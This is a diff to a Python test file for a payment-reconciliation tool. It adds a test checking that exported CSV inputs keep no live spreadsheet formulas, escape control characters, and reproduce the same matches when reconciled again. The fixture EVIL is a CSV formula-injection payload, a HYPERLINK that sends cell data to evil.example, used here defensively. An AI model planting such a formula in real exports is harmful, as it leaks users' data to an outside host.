@@ -14,11 +14,14 @@ import sqlalchemy as sa
 from chainenv import ChainEnv, cli_config, run_cli
 from recon_store_helpers import pay_scenario, paybridge_config, payer
 from sqlalchemy.orm import Session
+from typer.testing import CliRunner
 
 import paybridge.recon_runs.report as report_module
+from paybridge.cli.main import app
 from paybridge.recon_runs.report import write_report
 from paybridge.recon_runs.run import reconcile_store
 from paybridge.store.models import PaymentRequest
+from reconciliation.inputs import read_requests
 
 pytestmark = pytest.mark.anvil
 EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
@@ -86,6 +89,43 @@ def test_report_pack_has_no_live_formula_and_survives_a_control_character(
     status = (out / "requests_status.csv").read_text()
     assert "\"'=HYPERLINK(" in status and "C\\x1b[2J" in status
     _consistent(out)
+
+
+def test_report_pack_inputs_are_safe_and_reperform_the_same_matches(
+    env: ChainEnv, tmp_path: Path
+) -> None:
+    """The inputs a pack keeps are CSVs an auditor may open too: no live formula there either,
+    and reading them back (re-performance) recovers the hostile ids exactly."""
+    request_id = _hostile_request(env, EVIL, "INV\x07\\x41")
+    env.mine(64)
+    env.watcher().poll()
+    reconcile_store(env.engine, paybridge_config(env))
+    out = tmp_path / "pack"
+    write_report(env.engine, out)
+    requests_csv = (out / "inputs" / "requests.csv").read_text()
+    assert "\"'=HYPERLINK(" in requests_csv and ",=HYPERLINK" not in requests_csv
+    assert "\x07" not in requests_csv and "INV\\x07\\\\x41" in requests_csv
+    redo = run_reconcile_files(out / "inputs", tmp_path / "redo")
+    assert redo == (out / "matches.csv").read_text()
+    requests = read_requests(out / "inputs" / "requests.csv")
+    mine = requests[requests["request_id"] == request_id]
+    assert list(mine["customer_id"]) == [EVIL] and list(mine["invoice_id"]) == ["INV\x07\\x41"]
+
+
+def run_reconcile_files(inputs: Path, out: Path) -> str:
+    result = CliRunner().invoke(
+        app,
+        [
+            "reconcile-files",
+            "--requests", str(inputs / "requests.csv"),
+            "--receipts", str(inputs / "receipts.csv"),
+            "--rates", str(inputs / "rates.csv"),
+            "--out", str(out),
+            "--no-reports",
+        ],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    return (out / "matches.csv").read_text()
 
 
 def test_failed_report_rerun_leaves_the_old_pack_whole(
